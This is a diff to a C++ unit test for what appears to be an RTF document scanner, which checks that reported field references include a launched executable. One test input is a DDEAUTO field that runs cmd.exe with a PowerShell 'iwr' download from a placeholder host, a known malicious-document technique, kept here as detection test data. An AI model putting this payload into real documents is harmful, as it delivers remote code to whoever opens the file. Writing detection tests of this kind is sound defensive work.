@@ -65,7 +65,7 @@ TEST_CASE("fields") {
       {R"({\field{\*\fldinst DDEAUTO Excel "C:\\\\x.xls" R1C1}{\fldrslt x}})",
        "rtf:object (field 1) C:\\x.xls\n"},
       {R"({\field{\*\fldinst DDEAUTO c:\\\\cmd.exe "/k powershell iwr 'http://a/x'"}{\fldrslt x}})",
-       "rtf:object (field 1) http://a/x\n"},
+       "rtf:object (field 1) c:\\cmd.exe\nrtf:object (field 1) http://a/x\n"},
       {R"({\field{\*\fldinst DATABASE \\d "http://a/x.mdb" \\c "DSN=x"}})",
        "rtf:include (field 1) http://a/x.mdb\n"},
       {R"({\field{\*\fldinst PAGE}{\fldrslt 1}}{\field{\*\fldinst HYPERLINK "a"}{\fldrslt x}})",
